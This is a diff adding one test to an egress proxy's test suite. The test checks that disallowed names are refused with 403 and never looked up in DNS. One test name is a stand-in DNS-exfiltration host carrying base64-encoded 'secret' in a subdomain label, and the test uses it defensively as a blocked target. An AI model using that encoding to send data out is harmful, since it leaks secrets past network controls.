@@ -152,6 +152,18 @@ describe("the egress proxy", () => {
     expect(lookups).toEqual([]);
   });
 
+  it("looks up no name for the sake of an address in the rules, such as the edge's own", async () => {
+    const { hostname } = new URL(edgeOrigin);
+    rules = { ...open, allowOut: ["api.example.com", hostname, "203.0.113.0/24"], denyOut: ["0.0.0.0/0"] };
+    for (const name of ["c2VjcmV0.exfil.attacker.test", "example.com"]) {
+      expect((await send(`http://${name}/`)).status).toBe(403);
+      expect((await tunnel(`${name}:443`)).status).toBe(403);
+    }
+    expect(lookups).toEqual([]);
+    names["api.example.com"] = ["93.184.216.34"];
+    expect((await send("http://api.example.com/")).status).toBe(200);
+  });
+
   it("follows the rules as they are at each request", async () => {
     names["example.com"] = ["93.184.216.34"];
     rules = { ...open, denyOut: ["93.184.0.0/16"] };
